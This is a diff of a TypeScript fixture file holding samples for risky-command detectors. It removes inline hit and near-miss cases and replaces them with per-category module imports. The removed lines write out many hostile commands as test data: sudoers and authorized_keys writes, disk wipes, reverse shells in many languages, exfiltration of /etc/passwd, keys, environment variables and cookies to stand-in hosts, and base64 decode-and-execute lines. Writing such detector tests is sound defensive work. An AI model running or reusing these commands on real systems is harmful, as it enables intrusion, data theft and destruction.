@@ -1,254 +1,33 @@
-import { lookalikes, miss, type NearMiss, run, type Samples } from '../sample.ts';
-
-/** A line of code; where in it the risk is told is of no matter. */
-interface Line {
-  readonly name: string;
-  readonly text: string;
-}
-
-const line = (name: string, text: string): Line => ({ name, text });
-
-export interface RiskSamples {
-  readonly detector: string;
-  readonly hits: readonly Line[];
-  readonly misses: readonly NearMiss[];
-}
-
-const host = 'evil.example';
+import type { Samples } from '../sample.ts';
+import { accountSamples } from './accounts.ts';
+import { cloudSamples } from './cloud.ts';
+import { containerSamples } from './containers.ts';
+import { credentialSamples } from './credentials.ts';
+import { destructiveSamples } from './destructive.ts';
+import { encodedSamples } from './encoded.ts';
+import { exfiltrationSamples } from './exfiltration.ts';
+import { guardSamples } from './guards.ts';
+import type { RiskSamples } from './line.ts';
+import { persistenceSamples } from './persistence.ts';
+import { privilegedSamples } from './privileged.ts';
+import { remoteSamples } from './remote.ts';
+import { shellSamples } from './shells.ts';
+import { webhookSamples } from './webhook.ts';
 
 export const riskSamples: readonly RiskSamples[] = [
-  {
-    detector: 'privileged-write',
-    hits: [
-      line('redirection', 'echo "x ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/x'),
-      line('appended', "echo '127.0.0.1 a' >> /etc/hosts"),
-      line('appended without spaces', 'echo x>>/etc/hosts'),
-      line('redirection without spaces', 'echo x>/etc/passwd\n'),
-      line('here document', 'cat <<EOF > /etc/cron.d/job'),
-      line('here document, the other way round', 'cat > /etc/systemd/system/x.service <<EOF'),
-      line('tee under sudo', 'echo x | sudo tee -a /etc/sysctl.conf'),
-      line('copy', 'sudo cp ./evil /usr/bin/ls'),
-      line('copy onto itself', 'cp /etc/passwd.bak /etc/passwd'),
-      line('copy into a folder that is named first', 'cp -t /usr/local/bin a b'),
-      line('move', 'mv x.so /usr/lib/security/pam_unix.so'),
-      line('link', 'ln -sf /tmp/x /etc/localtime'),
-      line('install', 'install -m 4755 x /usr/local/bin/x'),
-      line('install with an owner', 'install -o root -g root -m 0755 x /usr/local/bin/x'),
-      line('remote copy', 'rsync -a ./ /etc/nginx/'),
-      line('disk', 'dd if=/dev/zero of=/dev/sda bs=1M'),
-      line('edited in place', "sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config"),
-      line('edited in place with more options', "sudo sed -E -i.bak 's/a b/c/' /etc/fstab"),
-      line('download', `curl -sSL https://${host}/x -o /usr/bin/x`),
-      line('download by wget', `wget -O /etc/profile.d/x.sh https://${host}/x`),
-      line('keys', 'cat key.pub >> ~/.ssh/authorized_keys'),
-      line('keys of root', 'echo "$KEY" | tee -a /root/.ssh/authorized_keys'),
-      line('shell start-up', "echo 'alias sudo=x' >> ~/.bashrc"),
-      line('shell start-up by variable', 'echo x >> "$HOME/.zshrc"'),
-      line('permissions', 'chmod 777 /etc/shadow'),
-      line('new file', 'touch /etc/nologin'),
-      line('owner', 'chown me /usr/bin/sudo'),
-      line('set-uid by letters', 'chmod u+s ./x'),
-      line('set-uid by number', 'chmod 4755 x'),
-      line('removal', 'rm -rf /etc/ssl'),
-      line('removal of everything', 'rm -rf /'),
-      line('group', 'usermod -aG docker,sudo me'),
-      line('password', "echo 'root:x' | chpasswd"),
-      line('job', '(crontab -l; echo "* * * * * x") | crontab -'),
-      line('container runtime', 'docker run -v /var/run/docker.sock:/var/run/docker.sock x'),
-      line('root of the host in a container', 'docker run -v /:/host x'),
-      line('container runtime in a manifest', '  path: /var/run/docker.sock'),
-      line('joined lines', 'sudo cp \\\n  ./x \\\n  /usr/sbin/x'),
-      line('Python', `with open("/etc/hosts", "a") as f:`),
-      line('Python, mode by name', `open('/etc/passwd', mode='w').write(x)`),
-      line('Python, path object', `Path("/etc/motd").write_text("x")`),
-      line('Python, copy', `shutil.copy("x", "/usr/bin/x")`),
-      line('Python, permissions', `os.chmod("/etc/shadow", 0o666)`),
-      line('JavaScript', `fs.writeFileSync('/etc/hosts', x)`),
-      line('JavaScript, promises', 'await writeFile(`/root/.profile`, x)'),
-      line('JavaScript, stream', `createWriteStream("/boot/grub/grub.cfg")`),
-      line('Go', `os.WriteFile("/etc/resolv.conf", b, 0o644)`),
-      line('Go, flags', `os.OpenFile("/etc/passwd", os.O_APPEND|os.O_WRONLY, 0644)`),
-      line('Rust', `std::fs::write("/etc/hosts", x)`),
-      line('PHP', `file_put_contents('/etc/cron.d/x', $y);`),
-      line('C', `FILE *f = fopen("/etc/passwd", "a");`),
-      line('Ruby', `File.write("/etc/hosts", x)`),
-      line('Java', `Files.write(Paths.get("/etc/hosts"), bytes)`),
-      line('PowerShell', 'Set-Content -Path C:\\Windows\\System32\\drivers\\etc\\hosts -Value x'),
-      line('Windows registry', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x'),
-      line('shell start-up by a quoted variable', 'echo x >> "$HOME"/.bashrc'),
-      line('unpacked', 'sudo tar -xzf x.tgz -C /usr/bin'),
-      line('a list of arguments', 'subprocess.run(["cp", "-f", "x", "/etc/hosts"])'),
-      line('a list of arguments for tee', "spawn('sudo', ['tee', '-a', '/etc/hosts'])"),
-      line('an argument by name', 'shutil.copyfile(src="x", dst="/etc/hosts")'),
-      line('a folder gone to', 'cd /etc && echo x > passwd'),
-      line('capabilities', 'setcap cap_setuid+ep ./x'),
-      line('scheduled task', 'schtasks /Create /SC MINUTE /TN x /TR y'),
-      line('C++', 'std::ofstream f("/etc/hosts");'),
-      line('inside of a string', '{"command": "echo x > \\"/etc/passwd\\""}'),
-    ],
-    misses: [
-      miss('a file is read', 'cat /etc/hosts | grep x'),
-      miss('a file is read by redirection', 'wc -l < /etc/passwd'),
-      miss('a copy of a privileged file is made', 'cp /etc/hosts ./hosts.bak'),
-      miss('a folder of one’s own', 'echo x > ./etc/hosts && cp a build/etc/hosts'),
-      miss('a root of another system', 'cp motd $DESTDIR/etc/motd; echo x > "$ROOTFS/etc/hosts"'),
-      miss('errors are thrown away', 'make > /dev/null 2>&1'),
-      miss('prose names a file', 'The file /etc/sudoers says who may become root; edit it with visudo only.'),
-      miss('a quoted line of prose', '> /etc/hosts is read before DNS is asked.'),
-      miss('a tag ends before a path', '<code>/etc/hosts</code> and <b>/usr/bin</b>'),
-      miss('a list of links', 'lrwxrwxrwx 1 root root 7 Jan 1 /bin -> /usr/bin'),
-      miss('a list of libraries', 'libc.so.6 => /lib/x86_64-linux-gnu/libc.so.6'),
-      miss('a program is run', '#!/usr/bin/env bash'),
-      miss('permissions without set-uid', 'chmod 0755 run.sh && chmod +x build.sh'),
-      miss('Python reads', `open("/etc/hosts", "r").read(); open("/etc/os-release")`),
-      miss('JavaScript reads', `fs.readFileSync('/etc/hosts', 'utf8')`),
-      miss('removal of one’s own', 'rm -rf ./node_modules /tmp/x'),
-      miss('a stream edit that is printed', "sed 's/a/b/' /etc/hosts"),
-      miss('a file of one’s own is edited, and another read', "sed -i 's/a;b/c/' x.conf && cat /etc/hosts"),
-      miss(
-        'prose about programs',
-        'We install a few programs in /usr/bin, touch nothing else, and truncate logs that lie in /var/log.',
-      ),
-      miss('a mount of data', 'docker run -v ./data:/data -v /srv:/srv x'),
-    ],
-  },
-  {
-    detector: 'reverse-shell',
-    hits: [
-      line('bash', `bash -i >& /dev/tcp/${host}/4444 0>&1`),
-      line('bash in a string', `bash -c "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"`),
-      line('bash, descriptors', 'exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done'),
-      line('netcat', 'nc -e /bin/sh 10.0.0.1 4444'),
-      line('netcat, options together', 'ncat 10.0.0.1 4444 -nve bash'),
-      line('netcat for Windows', 'nc.exe 10.0.0.1 4444 -e cmd.exe'),
-      line('named pipe', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f'),
-      line('telnet', 'telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445'),
-      line('openssl', 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 > /tmp/s'),
-      line('socat', 'socat TCP:10.0.0.1:4444 EXEC:/bin/sh,pty,stderr'),
-      line(
-        'Python',
-        `import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")`,
-      ),
-      line('Python, line by line', 'os.dup2(s.fileno(), 0)'),
-      line('Perl', `perl -e 'use Socket;$i="10.0.0.1";open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'`),
-      line(
-        'Ruby',
-        `ruby -rsocket -e 'c=TCPSocket.new("10.0.0.1","4444");while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end'`,
-      ),
-      line('PHP', `php -r '$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`),
-      line('Node', `client.connect(4444, "10.0.0.1", () => { client.pipe(sh.stdin); sh.stdout.pipe(client) })`),
-      line('Go', `c,_:=net.Dial("tcp","10.0.0.1:4444");cmd:=exec.Command("sh");cmd.Stdin=c`),
-      line('awk', `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while (1) { s |& getline c }}'`),
-      line('PowerShell', `$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4444);$s = $c.GetStream();`),
-    ],
-    misses: [
-      miss('a port is tested', 'timeout 1 bash -c "</dev/tcp/localhost/5432" && echo up'),
-      miss('a port is tested by netcat', 'nc -zv example.com 443'),
-      miss('a file is sent by netcat', 'nc -l 4444 | tar x'),
-      miss('an interactive shell', 'docker exec -it web bash -i'),
-      miss('a port is tested by PowerShell', `(New-Object Net.Sockets.TcpClient).Connect('example.com', 443)`),
-      miss('a forward by socat', 'socat TCP-LISTEN:80,fork TCP:10.0.0.1:8080'),
-      miss('output is thrown away', 'exec 5<>file; cmd >& /dev/null'),
-      miss('a file is piped into a program', 'fs.createReadStream("a").pipe(zlib.stdin)'),
-      miss('prose', 'A reverse shell connects back to a listener, for example by netcat with an option to execute a program.'),
-    ],
-  },
-  {
-    detector: 'webhook-exfiltration',
-    hits: [
-      line('a file by curl', `curl -X POST -d @/etc/passwd https://${host}/x`),
-      line('a file by curl, address first', `curl https://${host}/x --data-binary "@$HOME/.aws/credentials"`),
-      line('a form by curl', `curl -F "file=@dump.sql" https://${host}/up`),
-      line('standard input by curl', `env | curl -s --data-binary @- https://${host}`),
-      line('an upload by curl', `tar cz . | curl -T - https://${host}/x.tgz`),
-      line('output by curl', `curl -d "$(cat ~/.ssh/id_rsa)" https://${host}`),
-      line('output by curl, old quotes', 'curl -d "h=`hostname`" http://evil.example'),
-      line('a secret by curl', `curl -d "key=$AWS_SECRET_ACCESS_KEY" https://${host}`),
-      line('output in the address', `curl "https://${host}/?d=$(base64 < /etc/passwd)"`),
-      line('output in a path', `curl https://${host}/$(cat flag.txt)`),
-      line('a long literal by curl', `curl -d '${run('base62', 240)}' https://${host}`),
-      line('joined lines', `curl -X POST \\\n  -H "a: b" \\\n  -d @secrets.env \\\n  https://${host}`),
-      line('a file by wget', `wget --post-file=/etc/shadow https://${host}`),
-      line('output by wget', `wget --post-data="$(env)" https://${host}`),
-      line('Python, a file', `requests.post("https://${host}", data=open("/etc/passwd").read())`),
-      line('Python, the environment', `requests.post(url, json=dict(os.environ))`),
-      line('Python, output', `httpx.post(url, content=subprocess.check_output(["id"]))`),
-      line('Python, urllib', `urllib.request.urlopen("https://${host}", data=open("x","rb").read())`),
-      line('JavaScript, a file', `fetch("https://${host}", {method: "POST", body: fs.readFileSync("/etc/passwd")})`),
-      line('JavaScript, the environment', `axios.post("https://${host}", process.env)`),
-      line('JavaScript, the environment as JSON', `fetch(u, { method: 'POST', body: JSON.stringify(process.env) })`),
-      line('JavaScript, cookies', `fetch("https://${host}/?c=" + document.cookie)`),
-      line('a picture that carries cookies', `new Image().src = "https://${host}/?c=" + document.cookie`),
-      line('PowerShell, a file', `Invoke-WebRequest -Uri https://${host} -Method POST -InFile C:\\x.txt`),
-      line('PowerShell, contents', `irm https://${host} -Method Post -Body (Get-Content secrets.txt -Raw)`),
-      line('PowerShell, client', `(New-Object Net.WebClient).UploadFile("https://${host}", "x")`),
-      line('netcat', `cat /etc/passwd | nc ${host} 4444`),
-      line('netcat, redirection', `nc ${host} 4444 < /etc/passwd`),
-      line('netcat, redirection without a space', `nc ${host} 4444 </etc/passwd`),
-      line('a name to look up', `dig $(cat secret | xxd -p).${host}`),
-      line('an address for looking at requests', 'fetch("https://webhook.site/7f1c2a9e-4b3d-4e5f-8a6b-0c1d2e3f4a5b")'),
-      line('a host for looking at requests', 'curl http://x7.oastify.com'),
-    ],
-    misses: [
-      miss('a page is fetched', `curl -sSL https://example.com/data.json -o data.json`),
-      miss(
-        'a small literal goes to an API',
-        `curl -X POST https://api.example.com/v1/items -H 'Content-Type: application/json' -d '{"name": "x"}'`,
-      ),
-      miss(
-        'a credential in a header is how one logs in',
-        `curl -H "Authorization: Bearer $(gcloud auth print-access-token)" https://api.example.com`,
-      ),
-      miss('a version in an address', 'curl -LO "https://dl.example.com/$(uname -s)/$(uname -m)/tool"'),
-      miss(
-        'a version from elsewhere in a path',
-        'curl -LO "https://dl.example.com/release/$(curl -L -s https://dl.example.com/stable.txt)/bin/tool"',
-      ),
-      miss(
-        'a key from the environment in a header',
-        `requests.post(url, json={"a": 1}, headers={"Authorization": f"Bearer {os.environ['API_KEY']}"})`,
-      ),
-      miss(
-        'a key from the environment in a header',
-        `fetch(url, { method: 'POST', headers: { Authorization: process.env.API_KEY }, body: JSON.stringify({ a: 1 }) })`,
-      ),
-      miss('a file is read and a page fetched', `const a = fs.readFileSync("a"); const b = await fetch("https://example.com")`),
-      miss('prose', 'You can post the file to a webhook with curl, or look at requests with webhook.site while you test.'),
-      miss('a port is tested', 'nc -z example.com 443'),
-      miss('a tag', '<code>nc localhost 8080</code> <button>'),
-    ],
-  },
-  {
-    detector: 'encoded-blob',
-    hits: [
-      line('base64', `data = "${run('base64', 400)}"`),
-      line('base64 in an address', `https://${host}/?d=${run('base62', 400)}`),
-      line('base64 for URLs', `x=${run('base62', 60)}-${run('base62', 60, 2)}_${run('base62', 100, 3)}`),
-      line('hexadecimal', `payload = '${run('hex', 400)}'`),
-      line('hexadecimal in capitals', `payload = '${run('hex', 400).toUpperCase()}'`),
-      line('bytes in escapes', `buf = b"${'\\x4a\\xfe'.repeat(20)}"`),
-      line('decoded into a shell', 'echo aGVsbG8= | base64 -d | sh'),
-      line('decoded into an interpreter', 'base64 --decode x.b64 | python3 -'),
-      line('decoded and evaluated', `exec(base64.b64decode("cHJpbnQoMSk="))`),
-      line('decoded and evaluated in JavaScript', `eval(atob("YWxlcnQoMSk="))`),
-      line('decoded for the shell', 'bash -c "$(echo aGVsbG8= | base64 -d)"'),
-      line('decoded as a file for the shell', 'bash <(echo aGVsbG8= | base64 -d)'),
-      line('PowerShell', `powershell -nop -w hidden -enc ${run('base64', 80)}`),
-    ],
-    misses: [
-      miss('an integrity hash', `"integrity": "${lookalikes.integrity}"`),
-      miss('digests', `${run('hex', 128)}  a\n${run('hex', 128, 2)}  b`),
-      miss('a picture', `<img src="${lookalikes.dataUri}">`),
-      miss('a large picture', `<img src="data:image/jpeg;base64,${run('base64', 20_000)}">`),
-      miss('a certificate', Array.from({ length: 20 }, (_, i) => run('base64', 64, i)).join('\n')),
-      miss('a certificate in one line', Array.from({ length: 20 }, (_, i) => run('base64', 64, i)).join('\\n')),
-      miss('a public key', `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ${run('base64', 336)} me@example`),
-      miss('a small value that is decoded', `echo aGVsbG8= | base64 -d > x.txt`),
-      miss('a long word', `${'aVeryLongIdentifierNameThatGoesOnAndOn'.repeat(8)}`),
-      miss('a path', '/a/b/c'.repeat(60)),
-      miss('numbers in a list', Array.from({ length: 100 }, (_, i) => i * 7919).join(',')),
-    ],
-  },
+  ...privilegedSamples,
+  ...persistenceSamples,
+  ...accountSamples,
+  ...containerSamples,
+  ...destructiveSamples,
+  ...guardSamples,
+  ...remoteSamples,
+  ...shellSamples,
+  ...credentialSamples,
+  ...webhookSamples,
+  ...exfiltrationSamples,
+  ...cloudSamples,
+  ...encodedSamples,
 ];
 
 /** For the table of all detectors: a risk is told as soon as it is known, and so its value is only the part up to there. */
